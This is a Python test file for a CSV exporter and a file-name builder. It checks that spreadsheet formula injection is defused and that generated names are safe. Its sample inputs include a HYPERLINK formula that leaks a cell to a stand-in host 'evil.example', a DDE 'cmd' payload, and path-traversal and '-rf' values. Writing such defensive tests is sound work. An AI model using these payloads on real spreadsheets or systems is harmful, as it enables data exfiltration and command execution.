"""Tables that we write: text stays text, whatever spreadsheet opens them, and comes back as it was."""

import ast
import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.batches import file_name, write_manifest
from shared.csv_export import defused, write_csv
from shared.jobs import Prompt, Request, State
from tests.builders import a_job

ROOT = Path(__file__).parents[2]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "＝1+1",
]
SIGNS = "=+-@＝＋－＠"
RESERVED = {"con", "prn", "aux", "nul", *(f"{port}{number}" for port in ("com", "lpt") for number in range(10))}


def cells(table: str, separator: str) -> list[str]:
    """What a spreadsheet finds that parts cells at this sign and lines at each break, and strips what it may."""
    return [cell.strip(' \t"\ufeff\u200b') for line in re.split(r"[\r\n]", table) for cell in line.split(separator)]


class TestACell:
    @pytest.mark.parametrize("formula", [*FORMULAS, " =1+1", "\u200b=1", '"=1'])
    def test_that_would_be_a_formula_is_text(self, formula: str) -> None:
        assert defused(formula) == "'" + formula

    @pytest.mark.parametrize("text", ["a fox", "fox-red", "a = b", "1 + 1", "a@b", "", "(−1)", "fox; red", "'tis"])
    def test_of_other_words_stays_as_it_is(self, text: str) -> None:
        assert defused(text) == text

    def test_with_a_semicolon_is_no_formula_where_that_parts_cells(self) -> None:
        assert defused("a fox;=1+1\n@SUM(1)") == "a fox;'=1+1\n'@SUM(1)"

    @pytest.mark.parametrize("start", "\t\r\n")
    def test_that_begins_with_a_control_character_is_text(self, start: str) -> None:
        assert defused(start + "fox") == f"'{start}fox"
        assert defused(start + "=1") == f"'{start}'=1"


class TestATable:
    @given(st.text(alphabet=st.sampled_from([*SIGNS, *"a; \t\r\n,\"'\ufeff\u200b"]), max_size=12))
    def test_begins_no_cell_with_a_formula_wherever_cells_are_parted(self, text: str) -> None:
        table = write_csv([["1", text, "end"]])

        for separator in (";", "\t"):
            assert not [cell for cell in cells(table, separator) if cell and cell[0] in SIGNS]
        [[_, cell, _]] = csv.reader(io.StringIO(table, newline=""))
        assert not cell or cell[0] not in SIGNS + "\t\r\n"

    def test_keeps_numbers(self) -> None:
        assert write_csv([["seed"], [7], [-7]]) == "seed\r\n7\r\n-7\r\n"

    def test_is_written_in_one_place(self) -> None:
        """Whoever writes a CSV defuses it: nobody else has a writer."""
        writing = {
            file.relative_to(ROOT).as_posix()
            for folder in ("services", "shared")
            for file in (ROOT / folder).rglob("*.py")
            for node in ast.walk(ast.parse(file.read_text(encoding="utf-8")))
            if isinstance(node, ast.Attribute)
            and node.attr in {"writer", "DictWriter"}
            and ast.unparse(node.value) == "csv"
        }

        assert writing == {"shared/csv_export.py"}


class TestTheManifest:
    @pytest.mark.parametrize("formula", FORMULAS)
    def test_has_no_formula_in_any_column(self, formula: str) -> None:
        prompt = Prompt(formula, negative=formula)
        job = a_job(request=Request(formula), state=State.FAILED, prompt=prompt, reason=formula, line=0)

        [_, row] = csv.reader(io.StringIO(write_manifest([job]), newline=""))

        assert [cell for cell in row if cell[:1] in set(SIGNS)] == []
        assert row.count("'" + formula) == 4


class TestTheNamesOfFiles:
    @pytest.mark.parametrize("idea", ["CON", "aux.txt", "nul", "com1", "../../etc/passwd", "C:\\x", ".", "a\0b", "-rf"])
    def test_are_safe_on_every_system(self, idea: str) -> None:
        name = file_name(a_job(request=Request(idea), line=0))

        assert re.fullmatch(r"0001-[a-z0-9]+(-[a-z0-9]+)*\.jpg", name)

    @given(st.text(max_size=80), st.integers(0, 10_000))
    def test_are_no_reserved_ones_of_windows(self, idea: str, line: int) -> None:
        name = file_name(a_job(request=Request(idea), line=line))

        assert name.partition(".")[0] not in RESERVED
        assert len(name) < 100
